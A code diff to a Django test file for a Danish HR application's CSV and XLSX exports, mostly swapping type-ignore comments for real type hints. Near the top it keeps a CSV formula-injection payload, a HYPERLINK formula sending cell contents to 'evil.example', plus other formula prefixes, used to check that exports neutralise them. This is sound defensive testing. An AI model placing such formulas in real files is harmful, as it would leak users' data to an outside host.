@@ -15,6 +15,8 @@ import pytest
 from django.core.management import call_command
 from django_tasks_db.models import DBTaskResult
 from openpyxl import load_workbook
+from openpyxl.cell.cell import Cell
+from pytest_django import DjangoAssertNumQueries, Settings
 
 from naervaer.absence.models import AbsenceDegree, AbsenceSpell
 from naervaer.amo.models import ActionPlan, AnnualDiscussion, Process
@@ -26,17 +28,17 @@ from naervaer.importexport.importers import import_employees
 from naervaer.importexport.models import ExportJob
 from naervaer.importexport.tabular import read_table
 from naervaer.people.models import Organisation, Person, Unit
-from tests.conftest import World, client_for, make_person
+from tests.conftest import ClientResponse, World, client_for, make_person, streamed
 
 pytestmark = pytest.mark.django_db
 ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
 FORMULAS = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
 
-def body(response: object) -> bytes:
-    if getattr(response, "streaming", False):
-        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
-    return response.content  # type: ignore[attr-defined]
+def body(response: ClientResponse) -> bytes:
+    if response.streaming:
+        return streamed(response)
+    return response.content
 
 
 def csv_cells(data: bytes) -> list[list[str]]:
@@ -139,7 +141,7 @@ def test_amo_exports_carry_no_formula(world: World) -> None:
 
 
 def test_the_absence_export_reads_in_a_fixed_number_of_queries(
-    world: World, django_assert_max_num_queries: object
+    world: World, django_assert_max_num_queries: DjangoAssertNumQueries
 ) -> None:
     """No prefetch over every spell's id (SQLite's "too many SQL variables" at 250,000)."""
     person = Person.objects.get(organisation=world.acme, employee_id="1002")
@@ -152,20 +154,20 @@ def test_the_absence_export_reads_in_a_fixed_number_of_queries(
     AbsenceDegree.objects.bulk_create(
         AbsenceDegree(spell=s, from_day=s.first_day, percent=100) for s in spells
     )
-    with django_assert_max_num_queries(2):  # type: ignore[operator]
+    with django_assert_max_num_queries(2):
         rows = list(absence_rows(AbsenceSpell.objects.filter(person__organisation=world.acme)))
     assert len(rows) >= 120
 
 
 def test_a_large_export_is_built_by_a_worker_and_downloaded_by_its_requester_only(
-    hostile: World, settings: object
+    hostile: World, settings: Settings
 ) -> None:
-    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
+    settings.EXPORT_BACKGROUND_ROWS = 0
     client = client_for(hostile.hanne)
     response = client.get("/export/employees.xlsx")
     job = ExportJob.objects.get()
-    assert response.status_code == 302 and response.url == f"/export/{job.pk}/"  # type: ignore[attr-defined]
-    page = client.get(response.url).content.decode()  # type: ignore[attr-defined]
+    assert response.status_code == 302 and response["Location"] == f"/export/{job.pk}/"
+    page = client.get(response["Location"]).content.decode()
     assert "Filen er klar" in page and f"/export/{job.pk}/download" in page
     download = client.get(f"/export/{job.pk}/download")
     assert "no-store" in download["Cache-Control"]
@@ -175,10 +177,10 @@ def test_a_large_export_is_built_by_a_worker_and_downloaded_by_its_requester_onl
 
 
 def test_a_large_export_waits_for_a_worker_while_the_page_polls(
-    hostile: World, settings: object
+    hostile: World, settings: Settings
 ) -> None:
-    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
-    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}  # type: ignore[attr-defined]
+    settings.EXPORT_BACKGROUND_ROWS = 0
+    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
     client = client_for(hostile.hanne)
     client.get("/export/absences.csv")
     job = ExportJob.objects.get()
@@ -187,9 +189,9 @@ def test_a_large_export_waits_for_a_worker_while_the_page_polls(
     assert client.get(f"/export/{job.pk}/download").status_code == 404
 
 
-def test_a_large_export_shows_how_far_it_has_come(hostile: World, settings: object) -> None:
-    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
-    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}  # type: ignore[attr-defined]
+def test_a_large_export_shows_how_far_it_has_come(hostile: World, settings: Settings) -> None:
+    settings.EXPORT_BACKGROUND_ROWS = 0
+    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
     client = client_for(hostile.hanne)
     client.get("/export/absences.csv")
     job = ExportJob.objects.get()
@@ -212,8 +214,8 @@ def test_writing_an_export_reports_progress_and_counts_rows(hostile: World) -> N
     assert seen == [10_000, 20_000]
 
 
-def test_the_download_of_an_absence_export_is_audited(hostile: World, settings: object) -> None:
-    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
+def test_the_download_of_an_absence_export_is_audited(hostile: World, settings: Settings) -> None:
+    settings.EXPORT_BACKGROUND_ROWS = 0
     client = client_for(hostile.hanne)
     client.get("/export/absences.csv")
     job = ExportJob.objects.get()
@@ -230,22 +232,22 @@ def test_the_download_of_an_absence_export_is_audited(hostile: World, settings: 
     )
 
 
-def test_an_export_is_gone_after_its_time(hostile: World, settings: object) -> None:
-    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
+def test_an_export_is_gone_after_its_time(hostile: World, settings: Settings) -> None:
+    settings.EXPORT_BACKGROUND_ROWS = 0
     client = client_for(hostile.hanne)
     client.get("/export/employees.csv")
     job = ExportJob.objects.get()
     path = Path(job.file.path)
     assert path.exists()
     ExportJob.objects.filter(pk=job.pk).update(
-        created_at=job.created_at - dt.timedelta(hours=settings.EXPORT_KEEP_HOURS)  # type: ignore[attr-defined]
+        created_at=job.created_at - dt.timedelta(hours=settings.EXPORT_KEEP_HOURS)
     )
     assert client.get(f"/export/{job.pk}/download").status_code == 404
     assert not path.exists() and not ExportJob.objects.exists()
 
 
-def test_a_finished_export_schedules_its_own_deletion(hostile: World, settings: object) -> None:
-    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}  # type: ignore[attr-defined]
+def test_a_finished_export_schedules_its_own_deletion(hostile: World, settings: Settings) -> None:
+    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
     job = ExportJob.objects.create(
         organisation=hostile.acme, requested_by=hostile.hanne, kind="employees", format="csv"
     )
@@ -264,7 +266,9 @@ def test_xlsx_cells_keep_their_types() -> None:
     cells = list(book.worksheets[0].iter_rows())[1]
     assert [c.data_type for c in cells[:3]] == ["s", "s", "s"]
     assert [c.value for c in cells[:3]] == ["=1+1", "#N/A", "+1"]
-    assert cells[3].is_date and cells[3].number_format == "dd-mm-yyyy"
+    assert (
+        isinstance(cells[3], Cell) and cells[3].is_date and cells[3].number_format == "dd-mm-yyyy"
+    )
     assert [c.value for c in cells[4:]] == [37, 37.5, None, "Åse"]
 
 
